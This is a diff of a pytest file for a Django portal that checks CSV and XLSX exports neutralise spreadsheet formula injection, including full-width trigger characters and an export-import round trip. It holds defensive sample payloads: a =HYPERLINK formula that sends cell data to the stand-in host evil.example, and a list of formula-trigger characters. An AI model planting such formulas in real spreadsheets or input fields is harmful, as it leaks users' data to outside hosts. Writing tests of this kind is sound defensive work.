@@ -1,8 +1,10 @@
 """Formula injection is neutralised in every CSV/XLSX the portal writes.
 
 Text a user typed (an enterprise or agency name, an indicator name…) that starts with ``= + - @``
-(or a tab/CR) must reach the spreadsheet as plain text, never as a formula. The last test scans
-the source for spreadsheet writers so a new export cannot slip past this file unnoticed.
+(their full-width forms, or a tab/CR) must reach the spreadsheet as plain text, never as a
+formula: in XLSX as a quote-prefixed text cell holding exactly what was typed, in CSV behind an
+apostrophe. The last test scans the source for spreadsheet writers so a new export cannot slip
+past this file unnoticed.
 """
 
 from __future__ import annotations
@@ -30,19 +32,26 @@ from tests.factories_bench import build_world
 pytestmark = pytest.mark.django_db
 
 ROOT = Path(__file__).resolve().parent.parent
-DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+DANGEROUS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
 
 def assert_no_formula_xlsx(data: bytes) -> int:
+    """No formula cell; text that starts like one is a quote-prefixed text cell, unaltered.
+    Returns the number of text cells checked."""
     workbook = load_workbook(io.BytesIO(data))
     checked = 0
     for sheet in workbook.worksheets:
         for row in sheet.iter_rows():
             for cell in row:
-                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
+                where = f"{sheet.title}!{cell.coordinate}"
+                assert cell.data_type != "f", f"formula in {where}"
                 if isinstance(cell.value, str):
-                    assert not cell.value.startswith(DANGEROUS), cell.value
+                    assert not (cell.value[:1] == "'" and cell.value[1:].startswith(DANGEROUS)), (
+                        f"apostrophe added to the data in {where}: {cell.value!r}"
+                    )
+                    if cell.value.startswith(DANGEROUS):
+                        assert cell.data_type == "s" and cell.quotePrefix, where
                     checked += 1
     return checked
 
@@ -77,6 +86,14 @@ def hostile(agency_a, staff_a, doit, lead_a):
         address="+84 đường Nguy Hiểm",
         contact_name="@admin",
         contact_phone="-1",
+    )
+    Enterprise.objects.create(
+        tax_code="0100109106",
+        name='＝HYPERLINK("http://evil.example")',
+        search_text="evil2",
+        address="＋84 đường Toàn Khổ",
+        contact_name="＠admin",
+        contact_phone=PHONE,
     )
     assessment = Assessment.objects.create(
         enterprise=enterprise,
@@ -144,6 +161,39 @@ def test_every_dashboard_table_export_neutralises_formulas(client_for, doit, hos
     response = client_for(doit).get(reverse("dashboards:dashboard_export", kwargs={"table": table}))
     assert response.status_code == 200
     assert_no_formula_xlsx(response.content)
+
+
+PHONE = "+84 296 3850 123"
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_enterprise_export_keeps_the_data_as_typed_and_imports_back_unchanged(
+    client_for, doit, fmt
+):
+    from enterprises.importing import enterprises_import
+
+    typed = {
+        "name": "=1+1 Công ty",
+        "address": "-Lô A3, KCN Trà Nóc",
+        "contact_name": "＠Chị Lan",
+        "contact_phone": PHONE,
+    }
+    Enterprise.objects.create(tax_code="0100233488", search_text="x", **typed)
+    response = client_for(doit).get(reverse("enterprises:export", kwargs={"fmt": fmt}))
+    assert response.status_code == 200
+    if fmt == "xlsx":
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cells = {c.value: c for row in sheet.iter_rows() for c in row}
+        assert PHONE in cells and cells[PHONE].data_type == "s" and cells[PHONE].quotePrefix
+        assert "'" + PHONE not in cells
+    else:
+        assert f"'{PHONE}" in response.content.decode("utf-8-sig")
+    Enterprise.objects.all().delete()
+    result = enterprises_import(file=response.content, actor=doit, dry_run=False)
+    assert result.ok, (result.file_error, result.errors)
+    assert result.created == 1
+    again = Enterprise.objects.get(tax_code="0100233488")
+    assert {key: getattr(again, key) for key in typed} == typed
 
 
 def test_registry_template_has_no_formulas(client_for, doit):
